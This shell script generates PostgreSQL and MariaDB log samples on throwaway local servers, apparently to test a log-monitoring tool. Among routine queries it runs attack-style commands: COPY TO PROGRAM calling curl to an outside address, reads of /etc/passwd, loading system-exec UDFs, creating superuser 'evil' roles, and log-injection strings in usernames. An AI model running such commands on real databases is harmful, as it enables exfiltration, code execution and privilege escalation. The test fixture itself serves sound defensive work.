# Sourced by run.sh: PostgreSQL in English and French and in all three of its layouts, then MariaDB with its audit plugin.

mkdir -p "$out/databases"
bin=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | tail -1)
if [ -n "$bin" ]; then
    id -u postgres >/dev/null 2>&1 || useradd -r postgres
    locale -a | grep -qi '^fr_FR.utf8' || localedef -i fr_FR -f UTF-8 fr_FR.UTF-8 2>/dev/null
    for language in C.UTF-8 fr_FR.UTF-8; do
        data=$work/pg-$language
        port=$([ $language = C.UTF-8 ] && echo 15432 || echo 15433)
        mkdir "$data" "$data-log" && chown postgres "$data" "$data-log"
        su postgres -s /bin/sh -c "$bin/initdb -D $data -A trust --locale=$language" >/dev/null
        cat >>"$data/postgresql.conf" <<END
port = $port
listen_addresses = '127.0.0.1,::1'
unix_socket_directories = '$data'
lc_messages = '$language'
logging_collector = on
log_destination = 'stderr,csvlog,jsonlog'
log_directory = '$data-log'
log_filename = 'postgresql.log'
log_file_mode = 0644
log_connections = on
log_disconnections = on
log_hostname = off
log_statement = 'ddl'
log_min_duration_statement = 200
log_lock_waits = on
log_checkpoints = on
log_temp_files = 0
log_autovacuum_min_duration = 0
log_replication_commands = on
log_line_prefix = '%m [%p] %q%u@%d '
deadlock_timeout = 200ms
END
        cat >"$data/pg_hba.conf" <<END
local all postgres trust
host all postgres 127.0.0.1/32 trust
host shop,postgres all 0.0.0.0/0 scram-sha-256
host shop all ::/0 md5
host all ident_user 0.0.0.0/0 ident
host replication all 0.0.0.0/0 reject
END
        start su postgres -s /bin/sh -c "$bin/postgres -D $data"
        await $port
        q="psql -X -q -h 127.0.0.1 -p $port -U postgres"
        
        $q -c "CREATE ROLE alice LOGIN PASSWORD 'right'" -c 'CREATE DATABASE shop OWNER alice' -c 'CREATE ROLE "a b" LOGIN' 2>/dev/null
        as() { PGPASSWORD=$1 PGSSLMODE=disable psql -X -q "host=${5:-127.0.0.1} port=$port user='$2' dbname='$3' application_name='${6:-psql}'" -c "$4" >/dev/null 2>&1; }
        as right alice shop "CREATE TABLE people (id int PRIMARY KEY, name text, note text)"
        as right alice shop "INSERT INTO people SELECT i, 'n' || i, 'x' FROM generate_series(1,2000) i"
        as right alice shop "CREATE INDEX ON people (name)"
        as right alice shop "SELECT
  *
FROM
  nowhere WHERE a = 'x''y'
  AND b = \"quoted\""
        as right alice shop "SELECT 'it''s, \"quoted\"
2026-01-01 00:00:00.000 UTC [1] postgres@shop LOG:  connection authorized: user=root database=x', 1/0"
        as right alice shop "SELECT pg_sleep(0.3)"
        as right alice shop "COPY people TO STDOUT"
        as right alice shop "COPY people TO '/tmp/out.csv'"
        as right alice shop "COPY people TO PROGRAM 'curl http://203.0.113.9/x'"
        as right alice shop "COPY people FROM PROGRAM 'id'"
        as right alice shop "SELECT pg_read_file('/etc/passwd')"
        as right alice shop "SELECT lo_export(1, '/tmp/x')"
        as right alice shop "INSERT INTO people VALUES (1, 'é', 'duplicate')"
        as right alice shop "DROP TABLE nothing"
        as right alice shop "ALTER TABLE people ADD c int; DROP TABLE people"
        as right alice shop "GRANT postgres TO alice"
        as right alice shop "CREATE ROLE evil SUPERUSER"
        as right alice shop "SELECT * FROM pg_shadow"
        as right alice shop "SET statement_timeout = 100; SELECT pg_sleep(5)"
        as right alice shop "SELECT '\\xff'::text; SELECT E'\\xff'"
        as right alice shop "syntax error here"
        as right alice shop "SELECT 1" ::1 "app [x] user=root,db=y"
        as wrong alice shop "SELECT 1"
        as wrong alice shop "SELECT 1" ::1
        as wrong nobody shop "SELECT 1"
        as wrong postgres shop "SELECT 1" ::1
        as wrong alice nothing "SELECT 1"
        as wrong alice template1 "SELECT 1"
        as x ident_user postgres "SELECT 1"
        as x 'root from 203.0.113.9' shop "SELECT 1"
        as x 'élodie' shop "SELECT 1"
        as x 'a b' shop "SELECT 1"
        as x "$(printf 'new\nline')" shop "SELECT 1"
        as x 'x"y' 'shop"; z' "SELECT 1"
        as x 'x" FATAL:  password authentication failed for user "root' shop "SELECT 1"
        PGPASSWORD=x psql -X "host=127.0.0.1 port=$port user=alice dbname=shop replication=database sslmode=disable" -c 'IDENTIFY_SYSTEM' >/dev/null 2>&1
        garbage $port
        $q -c 'ALTER ROLE alice SUPERUSER' -c "ALTER ROLE alice PASSWORD 'new'" -c "COMMENT ON DATABASE shop IS 'x'" -c 'DROP ROLE "a b"' -c 'CHECKPOINT' -c 'VACUUM' -c 'SELECT pg_reload_conf()' >/dev/null 2>&1
        PGDATABASE=shop $q -c 'CREATE EXTENSION dblink' -c "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql" -c "CREATE FUNCTION sys(cstring) RETURNS int AS '/tmp/lib.so','sys' LANGUAGE c" -c "DO \$\$ BEGIN RAISE WARNING 'a % b', 'x'; RAISE NOTICE 'n'; END \$\$" >/dev/null 2>&1
        pg_dump -h 127.0.0.1 -p $port -U postgres shop >/dev/null 2>&1
        (PGDATABASE=shop $q -c 'SELECT pg_sleep(30)' >/dev/null 2>&1 &) ; sleep 1
        $q -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE query LIKE '%sleep(30)%' AND pid <> pg_backend_pid()" >/dev/null 2>&1
        (PGDATABASE=shop $q -c 'CREATE TABLE t(i int); INSERT INTO t VALUES (1)' -c 'BEGIN; UPDATE t SET i = 2; SELECT pg_sleep(1); COMMIT' >/dev/null 2>&1 &) ; sleep 0.5
        PGDATABASE=shop $q -c 'UPDATE t SET i = 3' >/dev/null 2>&1
        $q -c "ALTER SYSTEM SET log_line_prefix = '%t [%p]: [%l-1] user=%u,db=%d,app=%a,client=%h '" -c 'SELECT pg_reload_conf()' >/dev/null
        sleep 0.5
        as right alice shop "SELECT 1/0"; as wrong alice shop "SELECT 1"; as wrong nobody shop "SELECT 1" ::1 "app, client=203.0.113.9"
        $q -c 'CREATE ROLE bob' -c 'DROP ROLE bob' -c "ALTER SYSTEM SET log_line_prefix = '%h %u %d [%p] %m '" -c 'SELECT pg_reload_conf()' >/dev/null
        sleep 0.5
        as right alice shop "SELECT 1/0"; as wrong alice shop "SELECT 1"
        su postgres -s /bin/sh -c "$bin/pg_ctl -D $data stop -m fast" >/dev/null 2>&1
        for log in "$data-log"/*; do cp "$log" "$out/databases/${language%%.*}-$(basename "$log")"; done
    done
fi

if have mariadbd; then
    data=$work/maria
    mkdir "$data" && chown mysql "$data"
    mariadb-install-db --no-defaults --user=mysql --datadir="$data" --skip-test-db >/dev/null 2>&1
    touch "$out/databases/mariadb-"{error,general,slow,audit}.log
    chown mysql "$out/databases" "$out/databases/mariadb-"*.log
    start mariadbd --no-defaults --user=mysql --datadir="$data" --socket="$data/s" --port=13306 --bind-address=127.0.0.1 \
        --log-error="$out/databases/mariadb-error.log" --log-warnings=9 --general-log=1 --general-log-file="$out/databases/mariadb-general.log" \
        --slow-query-log=1 --long-query-time=0.2 --slow-query-log-file="$out/databases/mariadb-slow.log" --skip-name-resolve \
        --plugin-load-add=server_audit --server-audit-logging=ON --server-audit-file-path="$out/databases/mariadb-audit.log" --max-connect-errors=5
    await 13306; sleep 2
    root="mariadb --no-defaults -uroot -S $data/s"
    $root -e "CREATE USER alice IDENTIFIED BY 'right'; CREATE DATABASE shop; GRANT ALL ON shop.* TO alice; GRANT FILE ON *.* TO alice" 2>/dev/null
    as() { mariadb --no-defaults -h 127.0.0.1 -P 13306 "-u$2" "-p$1" "$3" -e "$4" >/dev/null 2>&1; }
    as right alice shop "CREATE TABLE people (id int, name text); INSERT INTO people VALUES (1, 'it''s
two lines'); SELECT * FROM people INTO OUTFILE '/tmp/vigie-out'; SELECT SLEEP(0.3)"
    as right alice shop "SELECT LOAD_FILE('/etc/passwd'); SELECT 'quoted \\' one, two', \"x\"; bad syntax"
    as right alice nothing "SELECT 1"
    as wrong alice shop "SELECT 1"
    as wrong root mysql "SELECT 1"
    as x nobody shop "SELECT 1"; as x '' shop "SELECT 1"; as x 'é l' shop "SELECT 1"
    as x "a'@'203.0.113.9' (using" shop "SELECT 1"
    $root -e "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'; DROP DATABASE shop; SET PASSWORD FOR alice = PASSWORD('new'); DROP USER alice; CREATE USER evil@'%'; GRANT ALL ON *.* TO evil@'%' WITH GRANT OPTION; FLUSH PRIVILEGES" 2>/dev/null
    $root -f -e "INSTALL SONAME 'nothing'; KILL 9999; SHOW GRANTS; SET GLOBAL general_log = 1" 2>/dev/null
    garbage 13306
    mariadb-admin --no-defaults -uroot -S "$data/s" shutdown
    rm -f /tmp/vigie-out
fi
sleep 1
